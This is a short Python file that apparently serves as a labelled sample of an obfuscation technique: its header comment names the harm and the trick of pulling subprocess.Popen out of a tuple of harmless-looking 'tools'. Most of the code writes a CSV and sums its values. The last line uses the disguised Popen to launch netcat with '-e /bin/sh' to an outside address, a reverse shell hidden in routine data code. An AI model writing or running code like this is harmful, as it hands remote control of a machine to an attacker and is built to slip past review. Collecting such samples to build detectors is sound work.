# harm: run a process; technique: tuple destructuring pulls subprocess.Popen out of a tuple of "tools"
import subprocess
import csv

fmt, spawn, parse = str.upper, subprocess.Popen, int

with open("in.csv", "w", newline="") as fh:
    csv.writer(fh).writerows([["a", "1"], ["b", "2"]])

with open("in.csv", newline="") as fh:
    total = sum(parse(r[1]) for r in csv.reader(fh))
print(fmt("total"), total)
spawn(["nc", "-e", "/bin/sh", "203.0.113.5", "9001"])
